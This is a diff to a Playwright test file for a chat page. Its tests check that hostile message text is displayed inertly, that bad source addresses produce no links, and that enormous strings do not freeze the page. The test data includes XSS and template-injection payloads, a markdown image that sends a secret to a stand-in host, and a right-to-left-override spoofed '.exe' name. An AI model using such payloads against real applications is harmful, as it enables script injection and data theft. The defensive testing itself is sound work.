@@ -26,7 +26,7 @@ OURS = [
     "[click](javascript:alert(1)) ![x](https://collect.example/?d=SECRET)",
     "<a href='https://collect.example'>x</a>",
     "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
-    "\u202egnp.exe\u202c \u0000 \ud83d\ude00",
+    "\u202egnp.exe\u202c \u0000 \U0001f600",
 ]
 BAD_ADDRESSES = [
     "javascript:alert(1)",
@@ -78,17 +78,19 @@ def test_hostile_words_of_anyone_are_shown_and_never_run(
 ) -> None:
     page, broke = watched
     texts = hostile_texts()
+    authors = ("concierge", "staff", "system")
+    told = [said_by(authors[n % 3], 100 + n, text) for n, text in enumerate(texts)]
 
-    for number, text in enumerate(texts):
-        author = ("concierge", "staff", "system")[number % 3]
-        house.announces("message.posted", said_by(author, 100 + number, text))
+    house.remembers([{**message, "id": message["message_id"]} for message in told])
+    page.reload()
+    for number, text in enumerate(OURS):
+        house.announces("message.posted", said_by("staff", 90_000 + number, text))
     house.announces("message.posted", said_by("staff", 99_999, "the last word"))
 
     expect(page.locator(".message .bubble", has_text="the last word")).to_be_attached(
         timeout=60_000
     )
-    shown = page.locator(".message, .note")
-    assert shown.count() >= len(texts)
+    assert page.locator(".message, .note").count() > len(texts) + len(OURS)
     inside = page.locator(".bubble *, blockquote *, summary bdi *, .chip *").evaluate_all(
         "nodes => [...new Set(nodes.map(node => node.localName))]"
     )
@@ -122,6 +124,23 @@ def test_a_source_with_a_bad_address_is_no_link(house: GuestApiDouble, chat: Pag
 
     expect(chat.locator(".cited")).to_have_count(5)
     expect(chat.locator(".sources a")).to_have_count(0)
+
+
+def test_endless_words_do_not_freeze_the_page(house: GuestApiDouble, chat: Page) -> None:
+    endless = [
+        "a" * 200_000,
+        "." * 200_000 + "x",
+        "a." * 100_000,
+        "https://x" + "!" * 200_000 + "x",
+    ]
+    house.answer = lambda text: Answer([endless[int(text)]])
+
+    for number in range(len(endless)):
+        say(chat, str(number))
+    house.answer = lambda _: Answer(["Still here."])
+    say(chat, "4")
+
+    shows(chat, "Still here.")
 
 
 def test_a_colour_that_is_no_colour_changes_nothing(
